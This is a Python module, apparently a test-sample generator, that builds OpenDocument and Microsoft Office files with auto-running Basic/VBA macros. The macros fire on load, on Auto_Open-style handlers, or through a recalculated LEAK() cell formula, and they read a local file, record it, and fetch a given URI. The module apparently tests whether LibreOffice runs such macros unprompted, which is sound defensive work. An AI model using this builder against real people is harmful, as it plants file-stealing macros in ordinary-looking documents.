"""Documents whose macro acts by itself: Basic in OpenDocument, VBA in the formats of Office.

A text or a presentation has an event for it. A sheet has a cell whose formula is a function of
its own, so that nobody has to open a window: whoever computes the sheet runs it.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

from samples import documents, hostile, vba

EFFECT = "effect.txt"
"""What the macro writes in the private directory: that it ran, and what it could read."""
RAN = "The macro was here."
SEEN = "Hello."

_BASIC = """Function Leak() As String
    On Error Resume Next
    Dim found As String
    Open "{file}" For Input As #1
    Line Input #1, found
    Close #1
    Open "/proc/self/cwd/{effect}" For Output As #1
    Print #1, "{ran} " & found
    Close #1
    reader = createUnoService("com.sun.star.ucb.SimpleFileAccess")
    fetched = reader.openFileRead("{uri}")
    Leak = found
End Function
"""
_START = """Sub Main
    Dim found As String
    found = Leak()
    {shown}
End Sub
"""
_OPEN = """Sub {name}()
    Dim found As String
    found = Leak()
End Sub
"""
_ODF = {
    "odt": ("text", "<text:p>{seen}</text:p>", "ThisComponent.Text.String = found"),
    "odp": (
        "presentation",
        '<draw:page draw:name="One"><draw:frame svg:width="20cm" svg:height="5cm"><draw:text-box>'
        "<text:p>{seen}</text:p></draw:text-box></draw:frame></draw:page>",
        "ThisComponent.DrawPages.getByIndex(0).getByIndex(0).String = found",
    ),
    "ods": (
        "spreadsheet",
        '<table:table table:name="One"><table:table-row><table:table-cell office:value-type='
        '"string"><text:p>{seen}</text:p></table:table-cell><table:table-cell table:formula='
        '"of:=LEAK()"/></table:table-row></table:table>',
        "",
    ),
}
"""Format -> what such a document is, its content, and how the macro shows what it found."""
_NAMES = "urn:oasis:names:tc:opendocument:xmlns:"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"


def make(path: Path, file: str = "", uri: str = "") -> Path:
    """A document of the kind that its name says, with a macro that writes `EFFECT`, shows the
    first line of `file` in the document and fetches `uri`."""
    kind = path.suffix[1:]
    basic = _BASIC.format(file=file, effect=EFFECT, ran=RAN, uri=uri)
    if kind in _ODF:
        _odf(path, kind, basic)
    else:
        _OFFICE[kind](path, basic)
    return path


def _odf(path: Path, format_id: str, basic: str) -> None:
    kind, content, shown = _ODF[format_id]
    basic += _START.format(shown=shown)
    parts = {
        "content.xml": _content(kind, content.format(seen=SEEN)),
        "Basic/script-lc.xml": listed(
            "libraries",
            '<library:library library:name="Standard" library:link="false"/>',
        ),
        "Basic/Standard/script-lb.xml": listed(
            "library",
            '<library:element library:name="Module1"/>',
            'library:name="Standard" library:readonly="false" library:passwordprotected="false"',
        ),
        "Basic/Standard/Module1.xml": module("Module1", basic),
    }
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>'
        for name in parts
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.writestr(
            "META-INF/manifest.xml",
            f'<manifest:manifest xmlns:manifest="{_NAMES}manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
            f'vnd.oasis.opendocument.{kind}"/>{entries}</manifest:manifest>',
        )


def _content(kind: str, content: str) -> str:
    own = ("office", "text", "script", "table")
    spaces = (
        "".join(f' xmlns:{short}="{_NAMES}{short}:1.0"' for short in own)
        + f' xmlns:draw="{_NAMES}drawing:1.0" xmlns:svg="{_NAMES}svg-compatible:1.0"'
        + f' xmlns:of="{_NAMES}of:1.2"'
    )
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" '
        'xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
        'language=Basic&amp;location=document"/>'
        for event in ("dom:load", "office:load-finished")
    )
    return (
        f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:ooo="http://openoffice.org/2004/office" '
        'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2"><office:scripts>'
        '<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded '
        'ooo:name="Standard"/></ooo:libraries></office:script><office:event-listeners>'
        f"{listeners}</office:event-listeners></office:scripts><office:body>"
        f"<office:{kind}>{content}</office:{kind}></office:body></office:document-content>"
    )


def listed(kind: str, items: str, attributes: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:{kind} PUBLIC '
        f'"-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "{kind}.dtd"><library:{kind} '
        'xmlns:library="http://openoffice.org/2000/library" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{items}</library:{kind}>'
    )


def module(name: str, basic: str) -> str:
    """A module of a library, as it is in a document and in a profile."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC '
        '"-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
        '<script:module xmlns:script="http://openoffice.org/2000/script" '
        f'script:name="{name}" script:language="StarBasic">{escape(basic)}</script:module>'
    )


def _workbook(basic: str) -> vba.Streams:
    modules = {"ThisWorkbook": _OPEN.format(name="Workbook_Open"), "Sheet1": ""}
    return vba.project(
        {**modules, "Module1": basic + _OPEN.format(name="Auto_Open")}, ("ThisWorkbook", "Sheet1")
    )


def _xlsx(path: Path, basic: str) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    book.add_vba_project(io.BytesIO(vba.compound(_workbook(basic))), is_stream=True)
    book.set_vba_name("ThisWorkbook")
    sheet = book.add_worksheet("Sheet1")
    sheet.set_vba_name("Sheet1")
    sheet.write(0, 0, SEEN)
    sheet.write_formula(0, 1, "=LEAK()", value="")
    book.close()


def _xls(path: Path, basic: str) -> None:
    project = {f"_VBA_PROJECT_CUR/{name}": data for name, data in _workbook(basic).items()}
    path.write_bytes(vba.compound({"Workbook": _biff(), **project}))


def _biff() -> bytes:
    """A workbook of two cells ([MS-XLS]): a text, and a call of the function of the project."""

    def record(kind: int, form: str = "", *values: object) -> bytes:
        data = struct.pack(f"<{form}", *values)
        return struct.pack("<HH", kind, len(data)) + data

    def begin(kind: int) -> bytes:
        return record(0x809, "4H2I", 0x600, kind, 0x0DBB, 0x07CC, 0, 6)

    def named(name: str) -> bytes:  # CodeName
        return record(0x1BA, f"HB{len(name)}s", len(name), 0, name.encode())

    def book(sheet: int) -> bytes:
        return (
            begin(5)
            + record(0x42, "H", 1200)
            + record(0xD3)  # ObProj: there is a project
            + named("ThisWorkbook")
            + record(0x85, "I4B6s", sheet, 0, 0, 6, 0, b"Sheet1")
            + record(0x18, "H2B3H5B4s", 0x0E, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, b"LEAK")
            + record(0x0A)
        )

    call = struct.pack("<BHHBBH", 0x23, 1, 0, 0x42, 1, 255)  # PtgName, PtgFuncVar
    now = 3  # fAlwaysCalc, fCalcOnLoad
    return (
        book(len(book(0)))
        + begin(16)
        + named("Sheet1")
        + record(0x204, f"4HB{len(SEEN)}s", 0, 0, 0, len(SEEN), 0, SEEN.encode())
        + record(0x06, f"3HdHIH{len(call)}s", 0, 1, 0, 0.0, now, 0, len(call), call)
        + record(0x0A)
    )


def _document(basic: str) -> vba.Streams:
    started = _OPEN.format(name="AutoOpen") + _OPEN.format(name="AutoExec")
    modules = {"ThisDocument": _OPEN.format(name="Document_Open"), "Module1": basic + started}
    return vba.project(modules, ("ThisDocument",))


def _docx(path: Path, basic: str) -> None:
    _packed(path, "word/_rels/document.xml.rels", _document(basic))


def _pptx(path: Path, basic: str) -> None:
    modules = {"Module1": basic + _OPEN.format(name="Auto_Open")}
    _packed(path, "ppt/_rels/presentation.xml.rels", vba.project(modules, ()))


def _packed(path: Path, links: str, project: vba.Streams) -> None:
    """A plain document with a project beside its main part, whose relations are `links`."""
    plain = documents.make(path.suffix[1:], path.with_name(f"{path.name}.plain"))
    types, part = "[Content_Types].xml", f"{links.partition('/')[0]}/vbaProject.bin"
    with zipfile.ZipFile(plain) as archive:
        declared, linked = archive.read(types).decode(), archive.read(links).decode()
    parts = {
        types: declared.replace(
            "</Types>",
            f'<Override PartName="/{part}" '
            'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
        links: linked.replace(
            "</Relationships>",
            f'<Relationship Id="vba" Type="{_MICROSOFT}vbaProject" Target="vbaProject.bin"/>'
            "</Relationships>",
        ),
    }
    coded = {name: text.encode() for name, text in parts.items()}
    hostile.repacked(plain, path, {**coded, part: vba.compound(project)})


def _doc(path: Path, basic: str) -> None:
    import olefile

    plain = documents.make("doc", path.with_name(f"{path.name}.plain"))
    with olefile.OleFileIO(plain) as ole:
        streams = {"/".join(name): ole.openstream(name).read() for name in ole.listdir()}
    project = {f"Macros/{name}": data for name, data in _document(basic).items()}
    path.write_bytes(vba.compound({**streams, **project}))


_OFFICE: dict[str, Callable[[Path, str], None]] = {
    "xlsx": _xlsx,
    "xls": _xls,
    "docx": _docx,
    "doc": _doc,
    "pptx": _pptx,
}
ACTING = (*_ODF, "xlsx", "xls")
"""Formats in which it runs when nothing stops it."""
IDLE = ("docx", "doc")
"""LibreOffice 7.4 loads the project of these and runs it when it is told to, but has nothing that
starts it: `sw` asks for an event processor by a name under which there is none."""
REMARKS = ("pptx",)
"""It loads the project of these, each line of it a remark: `sd` has no setting for more."""
